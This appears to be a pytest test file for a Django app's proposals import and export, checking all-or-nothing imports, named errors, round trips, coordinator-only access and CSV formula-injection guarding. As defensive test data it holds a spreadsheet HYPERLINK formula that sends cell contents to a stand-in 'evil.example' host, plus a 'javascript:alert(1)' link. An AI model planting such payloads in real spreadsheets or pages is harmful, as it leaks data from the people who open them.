"""The proposals import: all or nothing with named errors (sheet, row, field), the round trip,
the coordination team only on every path, an audit record per change."""

from __future__ import annotations

import io
from io import StringIO

import openpyxl
import pytest
from django.core.exceptions import PermissionDenied
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command

from commitments.models import AuditRecord
from consultations.exporter import proposals_export
from consultations.importer import proposals_import
from consultations.models import Consultation, Proposal

from .conftest import GOOD, csv_file, line

pytestmark = pytest.mark.django_db


def run(cast, data: bytes, filename="propositions.csv", **kw):
    return proposals_import(data=data, filename=filename, actor=cast.coordinator, **kw)


def snapshot():
    return sorted(
        (
            p.external_id,
            p.title,
            p.text,
            p.author,
            p.author_kind,
            p.url,
            p.outcome,
            p.reason,
            tuple(sorted(c.number for c in p.commitments.all())),
            p.updated_at,
        )
        for p in Proposal.objects.prefetch_related("commitments")
    )


def test_a_csv_file_is_imported_with_outcomes_and_commitments(cast):
    report = run(cast, GOOD)
    assert report.ok and report.counts == {"created": 5, "updated": 0, "unchanged": 0}
    consultation = Consultation.objects.get()
    assert (consultation.slug, consultation.plan, str(consultation.start_date)) == (
        "consultation-pan-2015",
        cast.plan,
        "2015-01-05",
    )
    p2 = Proposal.objects.get(external_id="P2")
    assert p2.outcome == "merged" and sorted(c.number for c in p2.commitments.all()) == [1, 2]
    p3 = Proposal.objects.get(external_id="P3")
    assert (p3.outcome, p3.reason, p3.author_kind) == (
        "not_retained",
        "Hors du champ du plan",
        "pseudonym",
    )
    assert Proposal.objects.get(external_id="P5").outcome == "pending"
    records = AuditRecord.objects.filter(object_type="proposal")
    assert records.count() == 5 and {r.plan_id for r in records} == {cast.plan.pk}
    assert AuditRecord.objects.filter(object_type="consultation").count() == 1


def test_reimporting_the_same_file_changes_nothing(cast):
    run(cast, GOOD)
    before, audits = snapshot(), AuditRecord.objects.count()
    report = run(cast, GOOD)
    assert report.counts == {"created": 0, "updated": 0, "unchanged": 5}
    assert snapshot() == before and AuditRecord.objects.count() == audits


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_round_trip_export_then_import_changes_nothing(cast, fmt):
    run(cast, GOOD)
    before, audits = snapshot(), AuditRecord.objects.count()
    exported = proposals_export(
        consultation=Consultation.objects.get(), fmt=fmt, actor=cast.coordinator
    )
    report = run(cast, exported, filename=f"export.{fmt}")
    assert report.ok, report.lines()
    assert report.counts == {"created": 0, "updated": 0, "unchanged": 5}
    assert snapshot() == before and AuditRecord.objects.count() == audits


def test_an_xlsx_workbook_is_imported_and_an_export_keeps_formulas_as_text(cast):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "Propositions"
    sheet.append(GOOD.decode().splitlines()[0].split(","))
    sheet.append(
        [
            "pan-2015-2017",
            "Consultation PAN 2015",
            "2015-01-05",
            "2015-02-28",
            "",
            "X1",
            '=HYPERLINK("http://evil")',
            "",
            "",
            "",
            "",
            "retenue",
            "",
            3,
        ]
    )
    sheet["G2"].data_type = "s"  # a text that looks like a formula
    out = io.BytesIO()
    workbook.save(out)
    report = run(cast, out.getvalue(), filename="p.xlsx")
    assert report.ok, report.lines()
    assert Proposal.objects.get().title == '=HYPERLINK("http://evil")'
    exported = proposals_export(
        consultation=Consultation.objects.get(), fmt="xlsx", actor=cast.coordinator
    )
    cell = openpyxl.load_workbook(io.BytesIO(exported))["Propositions"]["G2"]
    assert cell.data_type == "s"


def test_a_refused_import_names_row_and_field_and_changes_nothing(cast):
    run(cast, GOOD)
    before, audits = snapshot(), AuditRecord.objects.count()
    bad = csv_file(
        line("P1", "Nouveau titre", numbers="1"),  # fine alone, but nothing must change
        line("P2", "x", outcome="non retenue", reason="", numbers=""),
        line("P3", "x", outcome="retenue", numbers=""),
        line("P4", "x", numbers="9"),
        line("P5", "x", url="javascript:alert(1)"),
        line("P1", "doublon"),
        line("P6", "x", outcome="peut-être"),
    )
    report = run(cast, bad)
    found = {(e.where, e.row, e.field) for e in report.errors}
    assert found == {
        ("CSV", 3, "motif"),
        ("CSV", 4, "engagements"),
        ("CSV", 5, "engagements"),
        ("CSV", 6, "lien"),
        ("CSV", 7, "identifiant"),
        ("CSV", 8, "suite"),
    }
    text = "\n".join(report.lines())
    assert "Import refusé : 6 erreur(s). Rien n'a été enregistré." in text
    assert "CSV, ligne 5, champ « engagements » : Le plan « pan-2015-2017 » n'a pas " in text
    assert "Lien invalide « javascript:alert(1) » : adresse http:// ou https:// attendue." in text
    assert snapshot() == before and AuditRecord.objects.count() == audits


def test_a_workbook_error_names_the_sheet(cast):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "Propositions"
    sheet.append(GOOD.decode().splitlines()[0].split(","))
    sheet.append(
        [
            "pan-2015-2017",
            "C",
            "2015-02-30",
            "2015-03-01",
            "",
            "X1",
            "t",
            "",
            "",
            "",
            "",
            "",
            "",
            "",
        ]
    )
    out = io.BytesIO()
    workbook.save(out)
    report = run(cast, out.getvalue(), filename="p.xlsx")
    assert [(e.where, e.row, e.field) for e in report.errors] == [
        ("Propositions", 2, "consultation_debut")
    ]
    assert "Date impossible" in report.errors[0].message
    assert not Consultation.objects.exists()


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"", "Le fichier est vide."),
        (b"plan,titre\n", "Colonne obligatoire absente."),
        (b"\xff\xfe\x00garbage", "UTF-8"),
        (b"PK\x03\x04broken", "Classeur XLSX illisible"),
    ],
)
def test_unreadable_files_are_refused_in_french(cast, data, expected):
    name = "f.xlsx" if data.startswith(b"PK") else "f.csv"
    report = run(cast, data, filename=name)
    assert any(expected in str(e) for e in report.errors)
    assert not Consultation.objects.exists()


def test_a_dry_run_writes_nothing(cast):
    report = run(cast, GOOD, dry_run=True)
    assert report.ok and report.counts["created"] == 5
    assert not Proposal.objects.exists() and not AuditRecord.objects.exists()


def test_an_unknown_plan_and_a_consultation_of_another_plan_are_refused(cast):
    text = GOOD.decode().replace("pan-2015-2017", "pan-1999")
    report = run(cast, text.encode())
    assert [(e.row, e.field) for e in report.errors] == [(2, "plan")]


def test_only_the_coordination_team_imports_and_exports(cast):
    with pytest.raises(PermissionDenied):
        proposals_import(data=GOOD, filename="p.csv", actor=cast.contributor)
    with pytest.raises(PermissionDenied):
        proposals_import(data=GOOD, filename="p.csv", actor=None)
    run(cast, GOOD)
    with pytest.raises(PermissionDenied):
        proposals_export(consultation=Consultation.objects.get(), fmt="csv", actor=cast.contributor)


def test_the_workspace_page_is_the_coordinators(cast, client):
    upload = SimpleUploadedFile("p.csv", GOOD, content_type="text/csv")
    assert client.get("/espace/coordination/consultations/import/").status_code == 302
    client.force_login(cast.contributor)
    assert client.get("/espace/coordination/consultations/import/").status_code == 403
    assert (
        client.post("/espace/coordination/consultations/import/", {"file": upload}).status_code
        == 403
    )
    assert not Proposal.objects.exists()
    client.force_login(cast.coordinator)
    upload = SimpleUploadedFile("p.csv", GOOD, content_type="text/csv")
    response = client.post("/espace/coordination/consultations/import/", {"file": upload})
    assert "Importation réussie" in response.content.decode()
    exported = client.get("/espace/coordination/consultations/consultation-pan-2015.csv")
    assert exported.status_code == 200 and b"P3" in exported.content
    client.force_login(cast.contributor)
    assert (
        client.get("/espace/coordination/consultations/consultation-pan-2015.csv").status_code
        == 403
    )


def test_the_workspace_shows_named_errors(cast, client):
    client.force_login(cast.coordinator)
    upload = SimpleUploadedFile("p.csv", csv_file(line("P1", "x", numbers="9")))
    page = client.post("/espace/coordination/consultations/import/", {"file": upload})
    html = page.content.decode()
    assert "Fichier refusé : rien n&#x27;a été importé" in html or "Fichier refusé" in html
    assert "<td>engagements</td>" in html and "<td>2</td>" in html


def test_the_commands_need_a_coordinator(cast, tmp_path):
    path = tmp_path / "p.csv"
    path.write_bytes(GOOD)
    with pytest.raises(CommandError, match="n'est pas membre"):
        call_command("import_proposals", str(path), "--as", "alice", stdout=StringIO())
    out = StringIO()
    call_command("import_proposals", str(path), "--as", "coord", stdout=out)
    assert "5 créée(s)" in out.getvalue()
    target = tmp_path / "out.xlsx"
    call_command(
        "export_proposals", "consultation-pan-2015", str(target), "--as", "coord", stdout=StringIO()
    )
    out = StringIO()
    call_command("import_proposals", str(target), "--as", "coord", stdout=out)
    assert "0 créée(s), 0 modifiée(s), 5 inchangée(s)" in out.getvalue()
    bad = tmp_path / "bad.csv"
    bad.write_bytes(csv_file(line("P9", "x", numbers="9")))
    err = StringIO()
    with pytest.raises(CommandError, match="Import refusé"):
        call_command("import_proposals", str(bad), "--as", "coord", stdout=StringIO(), stderr=err)
    assert "CSV, ligne 2, champ « engagements »" in err.getvalue()


def test_the_admin_is_read_only_and_for_coordinators(cast, client):
    run(cast, GOOD)
    proposal = Proposal.objects.get(external_id="P1")
    cast.contributor.is_staff = True
    cast.contributor.save()
    client.force_login(cast.contributor)
    assert client.get("/admin/consultations/proposal/").status_code == 403
    cast.coordinator.is_staff = True
    cast.coordinator.save()
    client.force_login(cast.coordinator)
    assert client.get("/admin/consultations/proposal/").status_code == 200
    url = f"/admin/consultations/proposal/{proposal.pk}/change/"
    client.post(url, {"title": "piraté"})
    proposal.refresh_from_db()
    assert proposal.title == "Ouvrir les données des marchés publics"


MALICIOUS = '=HYPERLINK("http://evil.example/?"&A1;"clic")'


def test_the_csv_export_guards_formulas_in_text_never_numbers_and_the_round_trip_holds(cast):
    """CSV injection: a title, a text, an author or a reason starting with = + - @ (or a tab)
    leaves as text (« ' » first, the API's guard); numbers and dates stay as they are; the
    import takes the guard off, so export → import changes nothing."""
    import csv

    from consultations import fileformat

    rows = csv_file(
        line("P1", MALICIOUS.replace('"', '""'), numbers="1; 2", author="@attaquant"),
        line(
            "P2",
            "Titre",
            outcome="non retenue",
            reason="-Hors du champ du plan",
            numbers="",
        ),
        line("-3", "+33 1 23 45 67 89", numbers="3"),  # a number stays a number
    )
    assert run(cast, rows).ok
    assert Proposal.objects.get(external_id="P1").title == MALICIOUS
    # typed in the workspace: a title that already looks guarded keeps its quote
    Proposal.objects.filter(external_id="P2").update(title="'=déjà une apostrophe")
    before, audits = snapshot(), AuditRecord.objects.count()
    exported = proposals_export(
        consultation=Consultation.objects.get(), fmt="csv", actor=cast.coordinator
    )
    table = list(csv.DictReader(io.StringIO(exported.decode())))
    by_id = {r["identifiant"]: r for r in table}
    assert by_id["P1"]["titre"] == "'" + MALICIOUS
    assert by_id["P1"]["auteur"] == "'@attaquant"
    assert by_id["P2"]["titre"] == "''=déjà une apostrophe"
    assert by_id["P2"]["motif"] == "'-Hors du champ du plan"
    assert by_id["-3"]["titre"] == "'+33 1 23 45 67 89"
    assert by_id["-3"]["identifiant"] == "-3"  # a number: never guarded
    assert by_id["P1"]["consultation_debut"] == "2015-01-05"
    assert by_id["P1"]["engagements"] == "1; 2"
    for row in table:  # no cell a spreadsheet would run
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert not value.startswith("-") or value == "-3", value
    report = run(cast, exported, filename="export.csv")
    assert report.ok, report.lines()
    assert report.counts == {"created": 0, "updated": 0, "unchanged": 3}
    assert snapshot() == before and AuditRecord.objects.count() == audits
    for text in (MALICIOUS, "'=x", "''+y", "-12.5", "'-12.5", "@a", "plain", "'plain", ""):
        assert fileformat.unguard(fileformat.guard(text)) == text
